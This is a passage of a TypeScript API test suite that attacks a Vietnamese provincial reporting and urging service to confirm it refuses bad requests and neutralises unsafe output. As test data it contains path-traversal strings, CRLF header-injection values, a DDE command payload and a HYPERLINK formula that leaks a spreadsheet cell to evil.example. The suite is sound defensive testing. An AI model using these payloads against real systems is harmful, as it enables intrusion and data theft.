import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import type { ApiClient, ApiResponse } from '@dm/testing';
import { seed4308Directive } from '@dm/testing';
import { EmbeddedFixture } from './fixture';

type Body = Record<string, any>;

/**
 * An attacker's pass over the reporting and urging routes (docs/reporting.md):
 * a caller with a valid token of each role, or none, tries for a 5xx, a write
 * that should have been refused (the reporting store's head must not move),
 * a read beyond its scope, a problem that is not problem+json or does not name
 * the field, unsafe download names, formula cells in CSV, odd bodies and odd
 * Unicode, odd numbers, periods and dates, races and Idempotency-Key replays.
 *
 * The cases under "defects found by this pass" were defects when it was
 * written (each comment names it); they are fixed and now hold as regressions.
 */
describe('attacks on the reporting and urging routes (embedded)', () => {
  const fx = new EmbeddedFixture();
  let directiveId: string;
  /** A directive Bá Thước holds no assignment in, so may not read; monitored by Sở LĐ-TB&XH too. */
  let otherId: string;
  let assignments: Array<{ id: string; taskNumber: string; agencyId: string; role: string }>;
  let reportId: string;

  const admin = () => fx.client('admin-1', 'admin', null);
  const reportingHead = () => fx.server.runtime.reportingStore.headPosition();
  const attachmentDoc = async (sha256: string) => (await fx.server.runtime.reportStore.get('reporting-attachments', sha256)) ?? null;
  const sha = (text: string) => createHash('sha256').update(text).digest('hex');
  const file = (text: string, fields: Body = {}) => ({
    fileName: 'Báo cáo quý.pdf',
    mediaType: 'application/pdf',
    contentBase64: Buffer.from(text).toString('base64'),
    ...fields,
  });
  const submissions = (id = directiveId) => `/api/v1/reporting/regimes/${id}/submissions`;
  const issued = (id: string) => `/api/v1/reports/issued/${encodeURIComponent(id)}`;
  const lead = (task: string, agency: string) =>
    assignments.find((a) => a.taskNumber === task && a.agencyId === agency && a.role === 'lead')!.id;
  const reportCheckpoints = async (id: string) =>
    ((await fx.inspector().get('/api/v1/audit/checkpoints')).body.checkpoints as Body[]).filter((c) => c.reason === `report ${id}`).length;

  /** A refusal as RFC 9457 problem+json, naming the field when one is at fault. */
  const problem = (answer: ApiResponse, status: number, field?: string) => {
    expect([answer.status, answer.headers.get('content-type')]).toEqual([status, expect.stringContaining('application/problem+json')]);
    expect(answer.body).toMatchObject({ status, title: expect.any(String) });
    if (field) expect(answer.body.errors).toEqual(expect.arrayContaining([expect.objectContaining({ field })]));
  };
  /** Runs a request that must be refused, and checks the reporting store did not move. */
  const refused = async (send: () => Promise<ApiResponse>, status: number, field?: string) => {
    const before = await reportingHead();
    const answer = await send();
    problem(answer, status, field);
    expect(await reportingHead()).toBe(before);
    return answer;
  };

  const quarterly = {
    id: 'bao-cao-quy',
    title: 'Báo cáo kết quả thực hiện hằng quý',
    reporters: ['ubnd-huyen'],
    recipient: 'so-ldtbxh',
    frequency: 'quarter',
    deadline: { kind: 'workingDaysAfterCutOff', days: 3 },
    from: '2017-02-10',
    to: null,
  };
  const monthly = {
    id: 'bao-cao-thang',
    reporters: ['so-yt'],
    recipient: 'so-ldtbxh',
    frequency: 'month',
    deadline: { kind: 'dayOfMonth', day: 5 },
    from: '2017-02-10',
    to: null,
  };
  const regime = { duties: [quarterly, monthly] };
  const issueRequest = { period: '2017-Q1', number: '12/BC-SLĐTBXH', place: 'Thanh Hóa', date: '2017-03-16', recipients: ['UBND tỉnh'] };

  beforeAll(async () => {
    await fx.start();
    const seeded = await fx.monitoring('vp-ubnd-tinh').post('/api/v1/directives', seed4308Directive({ '2': '2017-03-01' }));
    expect(seeded.status).toBe(201);
    directiveId = seeded.body.id;
    assignments = seeded.body.assignments;
    const base = seed4308Directive();
    const other = await fx
      .monitoring('vp-ubnd-tinh')
      .post('/api/v1/directives', { ...base, number: '99/UBND-VX', tasks: base.tasks.filter((t) => t.number === '4') });
    expect(other.status).toBe(201);
    otherId = other.body.id;
    expect((await fx.monitoring().put(`/api/v1/reporting/regimes/${directiveId}`, regime)).status).toBe(200);
    expect(
      (await fx.officer('h-ba-thuoc').post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file('Bá Thước Q1') }))
        .status,
    ).toBe(201);
    const first = await fx.monitoring().post('/api/v1/reports/issued', { ...issueRequest, directiveId });
    expect(first.status).toBe(201);
    reportId = first.body.reportId;
    const second = await fx.monitoring().post('/api/v1/reports/issued', { ...issueRequest, directiveId, reason: 'Bổ sung số liệu' });
    expect(second.body.revision).toBe(2);
  });
  afterAll(() => fx.stop());

  describe('no token, or not the role', () => {
    it('answers every reporting route 401 problem+json without a token, and writes nothing', async () => {
      const anonymous = fx.anonymous();
      for (const path of [
        '/api/v1/calendar?year=2017',
        '/api/v1/calendar/day?date=2017-01-30',
        `/api/v1/reporting/regimes/${directiveId}`,
        '/api/v1/reporting/submissions',
        '/api/v1/reporting/compliance',
        `/api/v1/reporting/attachments/${sha('Bá Thước Q1')}`,
        '/api/v1/reports/rollup?period=2017-Q1',
        '/api/v1/reports/export?period=2017-Q1&format=csv',
        '/api/v1/reports/issued',
        issued(reportId),
        `${issued(reportId)}/revisions/1`,
        `${issued(reportId)}/diff?from=1&to=2`,
        `${issued(reportId)}/export?format=csv`,
        '/api/v1/reminders',
        '/api/v1/reminders/x',
      ])
        problem(await anonymous.get(path), 401);
      await refused(() => anonymous.post('/api/v1/calendar/adjustments', { date: '2017-12-23', kind: 'workingDay', name: 'x' }), 401);
      await refused(() => anonymous.put(`/api/v1/reporting/regimes/${directiveId}`, regime), 401);
      await refused(() => anonymous.post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file('x') }), 401);
      await refused(() => anonymous.post('/api/v1/reports/issued', { ...issueRequest, directiveId, reason: 'x' }), 401);
      await refused(() => anonymous.post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', text: 'x' }), 401);
      await refused(() => anonymous.post('/api/v1/admin/urging/run', {}), 401);
    });

    it('refuses each write to a role or office it is not for with 403 problem+json; no event, no checkpoint', async () => {
      const checkpoints = await reportCheckpoints(reportId);
      const adjustment = { date: '2017-12-23', kind: 'workingDay', name: 'Làm bù' };
      for (const as of [fx.officer('h-ba-thuoc'), fx.monitoring(), fx.inspector()])
        await refused(() => as.post('/api/v1/calendar/adjustments', adjustment), 403);
      for (const as of [fx.officer('h-ba-thuoc'), fx.inspector(), fx.monitoring('so-tai-chinh')])
        await refused(() => as.put(`/api/v1/reporting/regimes/${directiveId}`, regime), 403);
      await refused(() => fx.inspector().post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file('i') }), 403);
      // An agency for another; an office that does not monitor the directive recording a paper report.
      await refused(
        () =>
          fx.officer('h-quan-hoa').post(submissions(), {
            dutyId: 'bao-cao-quy',
            period: '2017-Q1',
            agencyId: 'h-ba-thuoc',
            attachment: file('q'),
          }),
        403,
      );
      await refused(
        () =>
          fx.monitoring('so-tai-chinh').post(submissions(), {
            dutyId: 'bao-cao-quy',
            period: '2017-Q1',
            agencyId: 'h-ba-thuoc',
            incomingDocument: { number: '01/BC', date: '2017-03-16' },
            attachment: file('t'),
          }),
        403,
      );
      for (const as of [fx.officer('h-ba-thuoc'), fx.inspector(), fx.monitoring('so-tai-chinh')])
        await refused(() => as.post('/api/v1/reports/issued', { ...issueRequest, directiveId, reason: 'Giả mạo' }), 403);
      expect(await reportCheckpoints(reportId)).toBe(checkpoints);
      for (const as of [fx.officer('h-ba-thuoc'), fx.inspector(), fx.monitoring('so-tai-chinh')])
        await refused(() => as.post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', directiveId, text: 'Giả mạo đôn đốc' }), 403);
      for (const as of [fx.officer('h-ba-thuoc'), fx.inspector(), fx.monitoring()])
        await refused(() => as.post('/api/v1/admin/urging/run', {}), 403);
    });
  });

  describe('reads beyond one’s scope', () => {
    it('keeps an agency officer to its own agency’s compliance, submissions, reminders and files', async () => {
      const quanHoa = fx.officer('h-quan-hoa');
      problem(await quanHoa.get('/api/v1/reporting/compliance?agencyId=h-ba-thuoc'), 403);
      problem(await quanHoa.get('/api/v1/reporting/submissions?agencyId=h-ba-thuoc'), 403);
      problem(await quanHoa.get('/api/v1/reminders?agencyId=h-ba-thuoc'), 403);
      problem(await quanHoa.get(`/api/v1/reporting/attachments/${sha('Bá Thước Q1')}`), 403);
      expect((await quanHoa.get('/api/v1/reporting/submissions')).body.submissions).toEqual([]);
      const own = await quanHoa.get(`/api/v1/reporting/compliance?directiveId=${directiveId}&from=2017-03-01&to=2017-03-31`);
      expect(own.body.agencies.map((a: Body) => a.agencyId)).toEqual(['h-quan-hoa']);
      const rollup = await fx.officer('h-ba-thuoc').get('/api/v1/reports/rollup?period=2017-Q1');
      expect(rollup.body.agencies.map((a: Body) => a.id)).toEqual(['h-ba-thuoc']);
      for (const group of rollup.body.groups) expect([group.id, group.agencies]).toEqual([group.id, 1]);

      const reminder = await fx.monitoring().post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', directiveId, text: 'Đề nghị báo cáo' });
      expect(reminder.status).toBe(201);
      problem(await quanHoa.get(`/api/v1/reminders/${reminder.body.reminderId}`), 403);
      problem(await fx.monitoring('so-tai-chinh').get(`/api/v1/reminders/${reminder.body.reminderId}`), 403);
      expect((await fx.officer('h-ba-thuoc').get(`/api/v1/reminders/${reminder.body.reminderId}`)).status).toBe(200);
    });

    it('keeps a directive the reader may not read out of its regime, roll-up, draft and compliance', async () => {
      const baThuoc = fx.officer('h-ba-thuoc');
      problem(await baThuoc.get(`/api/v1/reporting/regimes/${otherId}`), 403);
      problem(await baThuoc.get(`/api/v1/reports/rollup?period=2017-Q1&directiveId=${otherId}`), 403);
      problem(await baThuoc.get(`/api/v1/reports/export?period=2017-Q1&format=csv&directiveId=${otherId}`), 403);
      problem(await baThuoc.get('/api/v1/reports/rollup?period=2017-Q1&directiveId=khong-co'), 404, 'directiveId');
      expect((await baThuoc.get(`/api/v1/reporting/compliance?directiveId=${otherId}`)).body.instances).toEqual([]);
    });

    it('lets only inspectors, admins and the issuing office read a province-wide issued report', async () => {
      const province = await fx.monitoring().post('/api/v1/reports/issued', { ...issueRequest, period: '2017-H1' });
      expect(province.status).toBe(201);
      const id = province.body.reportId;
      expect(id).toBe('so-ldtbxh~all~2017-H1~decree09');
      for (const as of [fx.officer('h-ba-thuoc'), fx.monitoring('so-tai-chinh')]) {
        for (const path of [issued(id), `${issued(id)}/revisions/1`, `${issued(id)}/diff?from=1&to=1`, `${issued(id)}/export?format=csv`])
          problem(await as.get(path), 403);
        expect((await as.get('/api/v1/reports/issued')).body.reports.map((r: Body) => r.reportId)).not.toContain(id);
      }
      for (const as of [fx.inspector(), admin(), fx.monitoring(), fx.officer('so-ldtbxh')])
        expect((await as.get(issued(id))).status).toBe(200);
    });
  });

  describe('odd input: 400 problem+json naming the field, never a 5xx', () => {
    it('refuses periods that are not periods, naming period (or calendar)', async () => {
      for (const period of ['2017-Q5', '0000', '2017-00', '2017-13', '17-Q1', 'Q1-2017', '2017-Q1%00', '2017-H3', '%E2%80%AE2017'])
        problem(await fx.inspector().get(`/api/v1/reports/rollup?period=${period}`), 400, 'period');
      problem(await fx.inspector().get('/api/v1/reports/rollup?period=2017-Q1&period=2017-Q2'), 400, 'period');
      problem(await fx.inspector().get('/api/v1/reports/rollup'), 400, 'period');
      problem(await fx.inspector().get('/api/v1/reports/rollup?period=2017-Q1&calendar=lunar'), 400, 'calendar');
      problem(await fx.inspector().get(`/api/v1/reports/rollup?period=${'9'.repeat(30)}`), 400, 'period');
      problem(await fx.inspector().get('/api/v1/reports/rollup?period=9999-12'), 400, 'period');
      problem(await fx.inspector().get('/api/v1/reports/rollup?period=2017-Q1&knownAt=2017-02-30T00:00:00Z'), 400, 'knownAt');
      await refused(
        () => fx.monitoring().post('/api/v1/reports/issued', { ...issueRequest, period: '2017-Q5', directiveId }),
        400,
        'period',
      );
    });

    it('refuses dates that are not calendar dates and numbers out of range, naming each', async () => {
      const officer = fx.officer('h-ba-thuoc');
      problem(await officer.get('/api/v1/calendar/day?date=2017-02-30'), 400, 'date');
      problem(await officer.get('/api/v1/calendar/day?date=2017-2-3'), 400, 'date');
      for (const year of ['abc', '2017.5', '-2017', '1e9', '2017&year=2018'])
        problem(await officer.get(`/api/v1/calendar?year=${year}`), 400, 'year');
      expect((await officer.get('/api/v1/calendar?year=2100')).status).toBe(200);
      problem(await officer.get('/api/v1/reporting/compliance?from=2017-04-01&to=2017-03-01'), 400, 'from');
      problem(await officer.get('/api/v1/reporting/compliance?asOf=2017-02-29'), 400, 'asOf');
      problem(await officer.get(`/api/v1/reporting/regimes/${directiveId}?until=2017-13-01`), 400, 'until');
      for (const limit of ['0', '-1', '1001', 'abc', '99999999999999999999'])
        problem(await officer.get(`/api/v1/reminders?limit=${limit}`), 400, 'limit');
      problem(await officer.get('/api/v1/reminders?kind=bogus'), 400, 'kind');
      for (const revision of ['0', '-1', '1.5', 'abc', 'NaN', 'Infinity'])
        problem(await fx.inspector().get(`${issued(reportId)}/revisions/${revision}`), 400, 'revision');
      problem(await fx.inspector().get(`${issued(reportId)}/revisions/99999999999999999999`), 404, 'revision');
      problem(await fx.inspector().get(`${issued(reportId)}/revisions/3`), 404, 'revision');
      for (const [query, field] of [
        ['from=0&to=1', 'from'],
        ['from=1&to=abc', 'to'],
        ['from=1', 'to'],
        ['from=-1&to=2', 'from'],
      ])
        problem(await fx.inspector().get(`${issued(reportId)}/diff?${query}`), 400, field);
      problem(await fx.inspector().get(`${issued(reportId)}/diff?from=1&to=9`), 404, 'revision');
      const backwards = await fx.inspector().get(`${issued(reportId)}/diff?from=2&to=1`);
      expect([backwards.status, backwards.body.from.revision, backwards.body.to.revision]).toEqual([200, 2, 1]);
      for (const [query, field] of [
        ['format=exe', 'format'],
        ['format=csv&view=../../etc/passwd', 'view'],
        ['format=csv&format=pdf', 'format'],
      ])
        problem(await fx.inspector().get(`${issued(reportId)}/export?${query}`), 400, field);

      await refused(() => admin().post('/api/v1/calendar/adjustments', { date: '2017-02-30', kind: 'dayOff', name: 'x' }), 400, 'date');
      await refused(() => admin().post('/api/v1/calendar/adjustments', { date: '2017-12-22', kind: 'holiday', name: 'x' }), 400, 'kind');
      for (const [deadline, field] of [
        [{ kind: 'workingDaysAfterCutOff', days: -1 }, 'duties[0].deadline.days'],
        [{ kind: 'workingDaysAfterCutOff', days: 61 }, 'duties[0].deadline.days'],
        [{ kind: 'workingDaysAfterCutOff', days: 1.5 }, 'duties[0].deadline.days'],
        [{ kind: 'dayOfMonth', day: 0 }, 'duties[0].deadline.day'],
        [{ kind: 'dayOfMonth', day: 32 }, 'duties[0].deadline.day'],
        [{ kind: 'dayOfMonth', day: '5' }, 'duties[0].deadline.day'],
      ] as const)
        await refused(
          () => fx.monitoring().put(`/api/v1/reporting/regimes/${directiveId}`, { duties: [{ ...quarterly, deadline }] }),
          400,
          field,
        );
      await refused(
        () => fx.monitoring().put(`/api/v1/reporting/regimes/${directiveId}`, { duties: [{ ...quarterly, to: '2017-01-01' }] }),
        400,
        'duties[0].to',
      );
      await refused(
        () => fx.monitoring().put(`/api/v1/reporting/regimes/${directiveId}`, { duties: [quarterly, quarterly] }),
        400,
        'duties',
      );
      await refused(
        () => fx.monitoring().put(`/api/v1/reporting/regimes/${directiveId}`, { duties: [{ ...quarterly, id: '../x' }] }),
        400,
        'duties[0].id',
      );
      await refused(
        () => fx.monitoring().put(`/api/v1/reporting/regimes/${directiveId}`, { duties: [{ ...quarterly, reporters: ['khong-co'] }] }),
        400,
        'duties',
      );
      await refused(
        () => fx.monitoring().post('/api/v1/reports/issued', { ...issueRequest, directiveId, reason: 'x', date: '2017-02-30' }),
        400,
        'date',
      );
      await refused(
        () =>
          fx.monitoring().post('/api/v1/reports/issued', { ...issueRequest, directiveId, reason: 'x', recipients: Array(31).fill('UBND') }),
        400,
        'recipients',
      );
      await refused(
        () => fx.monitoring().post('/api/v1/reports/issued', { ...issueRequest, directiveId: 'khong-co', reason: 'x' }),
        404,
        'directiveId',
      );
    });

    it('refuses wrong types, unknown keys, malformed, foreign, huge and deeply nested bodies, and duplicate keys', async () => {
      const baThuoc = fx.officer('h-ba-thuoc');
      const wrong = await refused(() => baThuoc.post(submissions(), { dutyId: 5, period: ['2017-Q1'], attachment: 'x' }), 400);
      expect(wrong.body.errors.map((e: Body) => e.field)).toEqual(expect.arrayContaining(['dutyId', 'period', 'attachment']));
      await refused(() => baThuoc.post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file('x'), extra: 1 }), 400);
      await refused(() => fx.monitoring().post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', text: 42 }), 400, 'text');
      await refused(() => fx.monitoring().post('/api/v1/reminders', { agencyId: 'H-BA-THUOC', text: 'x' }), 400, 'agencyId');
      await refused(() => fx.monitoring().post('/api/v1/reminders', { agencyId: 'khong-co', directiveId, text: 'x' }), 400, 'agencyId');
      // An office urges about a directive it monitors: without one (or an assignment), only an admin may.
      await refused(() => fx.monitoring().post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', text: 'x' }), 400, 'directiveId');
      await refused(() => fx.monitoring().post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', text: '   ' }), 400, 'text');
      await refused(() => fx.monitoring().post('/api/v1/reports/issued', null), 400, '(body)');
      await refused(() => fx.monitoring().post('/api/v1/reports/issued', [issueRequest]), 400, '(body)');
      await refused(() => baThuoc.postRaw(submissions(), '{"dutyId":'), 400, '(body)');
      await refused(() => baThuoc.post(submissions(), 'dutyId=bao-cao-quy', { 'content-type': 'application/x-www-form-urlencoded' }), 415);
      await refused(() => baThuoc.postRaw(submissions(), '['.repeat(100_000) + ']'.repeat(100_000)), 400, '(body)');
      await refused(() => baThuoc.postRaw(submissions(), '{"a":'.repeat(50_000) + '1' + '}'.repeat(50_000)), 400, '(body)');
      await refused(
        () =>
          baThuoc.postRaw(
            submissions(),
            JSON.stringify({ dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file('x'.repeat(6 << 20)) }),
          ),
        413,
      );
      await refused(
        () => baThuoc.post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file('y'.repeat((3 << 20) + 3)) }),
        400,
        'attachment.contentBase64',
      );
      // Two equal keys are ambiguous (JSON.parse keeps the last, other parsers the first): refused, naming the key.
      const duplicate = `{"dutyId":"bao-cao-quy","dutyId":"bao-cao-thang","period":"2017-03","attachment":${JSON.stringify(file('dup'))}}`;
      await refused(() => baThuoc.postRaw(submissions(), duplicate), 400, 'dutyId');
    });

    it('refuses lone surrogates in every text, and control characters and paths in file names; keeps names NFC', async () => {
      const baThuoc = fx.officer('h-ba-thuoc');
      const lone = 'Báo cáo \ud800';
      await refused(
        () => baThuoc.post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', note: lone, attachment: file('n') }),
        400,
        'note',
      );
      await refused(() => admin().post('/api/v1/calendar/adjustments', { date: '2017-12-22', kind: 'dayOff', name: lone }), 400, 'name');
      await refused(() => fx.monitoring().post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', text: lone }), 400, 'text');
      await refused(
        () => fx.monitoring().post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', text: 'x', subject: '\udc00' }),
        400,
        'subject',
      );
      await refused(() => fx.monitoring().post('/api/v1/reports/issued', { ...issueRequest, directiveId, reason: lone }), 400, 'reason');
      for (const fileName of [lone, 'a\u0000.pdf', 'a\r\nX-Injected: 1.pdf', '../../etc/passwd', '..\\..\\boot.ini', 'C:/x.pdf', '', ' '])
        await refused(
          () => baThuoc.post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file('f', { fileName }) }),
          400,
          'attachment.fileName',
        );
      for (const mediaType of ['text/html\r\nX-Injected: 1', 'pdf', 'application/pdf; charset="x"', 'a'.repeat(101) + '/x'])
        await refused(
          () => baThuoc.post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file('m', { mediaType }) }),
          400,
          'attachment.mediaType',
        );

      const nfd = await baThuoc.post(submissions(), {
        dutyId: 'bao-cao-quy',
        period: '2017-Q1',
        attachment: file('NFD', { fileName: 'Ba\u0301o ca\u0301o \u201cquý\u201d; a"b.pdf' }),
      });
      expect(nfd.status).toBe(201);
      expect(nfd.body.data.attachment.fileName).toBe('Báo cáo \u201cquý\u201d; a"b.pdf'.normalize('NFC'));
      const download = await fx.monitoring().get(`/api/v1/reporting/attachments/${sha('NFD')}`);
      expect(download.status).toBe(200);
      expect(download.headers.get('content-disposition')).toBe(
        `attachment; filename*=UTF-8''${encodeURIComponent('Báo cáo \u201cquý\u201d; a"b.pdf'.normalize('NFC'))}`,
      );
      expect(download.headers.get('content-disposition')).toMatch(/^attachment; filename\*=UTF-8''[A-Za-z0-9%._~!*'()-]+$/);
      expect(download.headers.get('x-content-sha256')).toBe(sha('NFD'));
    });

    it('takes only canonical base64: no whitespace, no stray padding or trailing bits', async () => {
      const baThuoc = fx.officer('h-ba-thuoc');
      for (const contentBase64 of ['QQ== ', ' QQ==', 'Q Q==', 'QQ==\n', 'QUJD\r\n', 'Q===', '==', 'QQ==QQ==', 'QR==', '-_8=', 'QUJD%'])
        await refused(
          () => baThuoc.post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file('', { contentBase64 }) }),
          400,
          'attachment.contentBase64',
        );
      const padded = await baThuoc.post(submissions(), {
        dutyId: 'bao-cao-quy',
        period: '2017-Q1',
        attachment: file('', { contentBase64: 'QUI=' }),
      });
      const bare = await baThuoc.post(submissions(), {
        dutyId: 'bao-cao-quy',
        period: '2017-Q1',
        attachment: file('', { contentBase64: 'QUI' }),
      });
      expect([padded.status, bare.status]).toEqual([201, 201]);
      expect(padded.body.data.attachment).toMatchObject({ size: 2, sha256: sha('AB') });
      expect(bare.body.data.attachment.sha256).toBe(sha('AB'));
    });

    it('refuses a submission for another duty’s period, another frequency, a period not begun or a paper report wrongly dated', async () => {
      const baThuoc = fx.officer('h-ba-thuoc');
      const submit = (body: Body, as: ApiClient = baThuoc) => as.post(submissions(), { attachment: file(JSON.stringify(body)), ...body });
      await refused(() => submit({ dutyId: 'bao-cao-thang', period: '2017-03' }), 400, 'agencyId');
      await refused(() => submit({ dutyId: 'bao-cao-quy', period: '2017-03' }), 400, 'period');
      await refused(() => submit({ dutyId: 'bao-cao-quy', period: '2017-H1' }), 400, 'period');
      await refused(() => submit({ dutyId: 'bao-cao-quy', period: '2016-Q4' }), 400, 'period');
      await refused(() => submit({ dutyId: 'bao-cao-quy', period: '2099-Q1' }), 400, 'period');
      await refused(() => submit({ dutyId: 'khong-co', period: '2017-Q1' }), 400, 'dutyId');
      await refused(
        () => submit({ dutyId: 'bao-cao-quy', period: '2017-Q1', incomingDocument: { number: '1', date: '2017-03-16' } }),
        400,
        'incomingDocument',
      );
      await refused(
        () => submit({ dutyId: 'bao-cao-quy', period: '2017-Q1', agencyId: 'h-cam-thuy' }, fx.monitoring()),
        400,
        'incomingDocument',
      );
      for (const date of ['2099-01-01', '2016-01-01'])
        await refused(
          () =>
            submit(
              { dutyId: 'bao-cao-quy', period: '2017-Q1', agencyId: 'h-cam-thuy', incomingDocument: { number: '1', date } },
              fx.monitoring(),
            ),
          400,
          'incomingDocument.date',
        );
      await refused(
        () =>
          submit(
            { dutyId: 'bao-cao-quy', period: '2017-Q1', agencyId: 'h-cam-thuy', incomingDocument: { number: '1', date: '2017-02-29' } },
            fx.monitoring(),
          ),
        400,
        'incomingDocument.date',
      );
      await refused(
        () => fx.officer('h-ba-thuoc').post(submissions('khong-co'), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file('z') }),
        404,
      );
    });

    it('answers odd ids 404 (or 400 for a malformed hash or a control character, 414 for one longer than a path parameter may be) as problem+json', async () => {
      const inspector = fx.inspector();
      for (const id of ['..', '..%2F..%2Fetc%2Fpasswd', '%2E%2E', `${encodeURIComponent(reportId)}%2F..`])
        problem(await inspector.get(`/api/v1/reports/issued/${id}`), 404);
      // A path parameter longer than the router takes (maxParamLength) is 414 URI Too Long.
      problem(await inspector.get(`/api/v1/reports/issued/${'x'.repeat(600)}`), 414);
      problem(await inspector.get('/api/v1/reports/issued/a%00b'), 400, 'reportId');
      problem(await inspector.get(`/api/v1/reports/issued/${'x'.repeat(600)}/export?format=csv`), 414);
      for (const id of ['unknown', '..%2F..']) problem(await inspector.get(`/api/v1/reminders/${id}`), 404);
      problem(await inspector.get(`/api/v1/reminders/${'x'.repeat(600)}`), 414);
      for (const hash of ['..%2F..%2Fetc%2Fpasswd', sha('x').toUpperCase(), sha('x').slice(1), `${sha('x')}0`])
        problem(await inspector.get(`/api/v1/reporting/attachments/${hash}`), 400, 'hash');
      problem(await inspector.get(`/api/v1/reporting/attachments/${sha('never sent')}`), 404);
      problem(await inspector.get('/api/v1/reporting/regimes/..%2F..'), 404);
    });
  });

  describe('files', () => {
    it('names every download safely: letters, digits, dot, dash and underscore', async () => {
      const inspector = fx.inspector();
      for (const path of [
        `${issued(reportId)}/export?format=csv&view=summary`,
        `${issued(reportId)}/revisions/1/export?format=csv`,
        `/api/v1/reports/export?period=2017-Q1&format=csv&directiveId=${directiveId}&number=${encodeURIComponent('"; filename=evil.exe')}`,
      ]) {
        const answer = await inspector.get(path);
        expect([path, answer.status]).toEqual([path, 200]);
        expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[A-Za-z0-9._-]+\.csv"$/);
      }
      const draft = await inspector.get(`/api/v1/reports/export?period=2017-Q1&format=csv&directiveId=${encodeURIComponent('../"\r\nx')}`);
      problem(draft, 404, 'directiveId');
    });

    it('neutralises every CSV cell a spreadsheet would take for a formula: task texts, agency names and headings', async () => {
      const task = (number: string, text: string) => ({
        number,
        text,
        mode: 'giao' as const,
        lead: ['h-nga-son'],
        coordinating: [],
        deadline: '2017-03-01',
        reportDuty: null,
      });
      const formulas = seed4308Directive();
      const posted = await fx.monitoring('vp-ubnd-tinh').post('/api/v1/directives', {
        ...formulas,
        number: '=1+1/UBND-VX',
        tasks: [
          task('1', '=HYPERLINK("http://evil.example/?"&A1,"Xem")'),
          task('2', "+cmd|' /C calc'!A0"),
          task('3', '-2+3'),
          task('4', '@SUM(1+1)'),
          task('5', '\t=1+1'),
          task('6', '\r\n=1+1'),
        ],
      });
      expect(posted.status).toBe(201);
      const renamed = await admin().post('/api/v1/registry/agencies/h-nga-son/rename', {
        reason: 'Thử',
        authorizingDocument: '01/QĐ',
        name: '=HYPERLINK("http://evil.example","UBND huyện Nga Sơn")',
        effectiveOn: '2017-01-01',
      });
      expect(renamed.status).toBe(200);
      const heading = `number=${encodeURIComponent('=2+2')}&place=${encodeURIComponent('@Thanh Hóa')}`;
      for (const view of ['summary', 'scorecards', 'groups', 'late', 'requests', 'submissions']) {
        const answer = await fx.monitoring().get(`/api/v1/reports/export?period=2017-Q1&format=csv&view=${view}&${heading}`);
        expect([view, answer.status]).toEqual([view, 200]);
        const cells = (parse(answer.body, { bom: true, relax_column_count: true }) as string[][]).flat();
        expect([view, cells.filter((c) => /^[=+\-@\t\r]/.test(c))]).toEqual([view, []]);
        if (view === 'late') {
          expect(cells).toEqual(expect.arrayContaining(['\'=HYPERLINK("http://evil.example/?"&A1,"Xem")', "'@SUM(1+1)", "'-2+3"]));
          expect(cells).toEqual(expect.arrayContaining(['\'=HYPERLINK("http://evil.example","UBND huyện Nga Sơn")']));
        }
      }
    });
  });

  describe('idempotency keys on every write', () => {
    const replays = async (label: string, send: (body: Body) => Promise<ApiResponse>, body: Body, other: Body) => {
      const before = await reportingHead();
      const first = await send(body);
      expect([label, first.status < 300]).toEqual([label, true]);
      const again = await send(body);
      expect([label, again.status, again.headers.get('idempotent-replayed')]).toEqual([label, first.status, 'true']);
      expect(again.body).toEqual(first.body);
      const changed = await send(other);
      problem(changed, 422, 'Idempotency-Key');
      expect([label, (await reportingHead()) - before]).toEqual([label, 1]);
    };

    it('answers the same key and body with the first answer, marked replayed, and another body with 422', async () => {
      const key = { 'idempotency-key': 'k-attack' };
      await replays(
        'calendar',
        (b) => admin().post('/api/v1/calendar/adjustments', b, key),
        { date: '2017-12-23', kind: 'workingDay', name: 'Làm bù cho ngày 02/01/2018' },
        { date: '2017-12-23', kind: 'workingDay', name: 'Làm bù khác' },
      );
      await replays('regime', (b) => fx.monitoring().put(`/api/v1/reporting/regimes/${directiveId}`, b, key), regime, {
        ...regime,
        reason: 'Khác',
      });
      await replays(
        'submission',
        (b) => fx.officer('h-ba-thuoc').post(submissions(), b, key),
        { dutyId: 'bao-cao-quy', period: '2017-Q2', attachment: file('Q2') },
        { dutyId: 'bao-cao-quy', period: '2017-Q2', attachment: file('Q2 khác') },
      );
      const paper = (agencyId: string) => ({
        dutyId: 'bao-cao-quy',
        period: '2017-Q1',
        agencyId,
        incomingDocument: { number: '05/BC', date: '2017-03-17' },
        attachment: file(`giấy ${agencyId}`),
      });
      await replays('paper report', (b) => fx.monitoring().post(submissions(), b, key), paper('h-cam-thuy'), paper('h-quan-hoa'));
      await replays(
        'reminder',
        (b) => fx.monitoring().post('/api/v1/reminders', b, key),
        { agencyId: 'h-ba-thuoc', directiveId, text: 'Đề nghị báo cáo ngay' },
        { agencyId: 'h-ba-thuoc', directiveId, text: 'Đề nghị báo cáo gấp' },
      );
      const issue = { ...issueRequest, period: '2017-Q3', directiveId };
      const first = await fx.monitoring().post('/api/v1/reports/issued', issue, key);
      const again = await fx.monitoring().post('/api/v1/reports/issued', issue, key);
      expect([first.status, again.status, again.headers.get('idempotent-replayed')]).toEqual([201, 201, 'true']);
      expect(again.body).toMatchObject({ reportId: first.body.reportId, revision: 1, eventId: first.body.eventId });
      problem(await fx.monitoring().post('/api/v1/reports/issued', { ...issue, number: '13/BC' }, key), 422, 'Idempotency-Key');
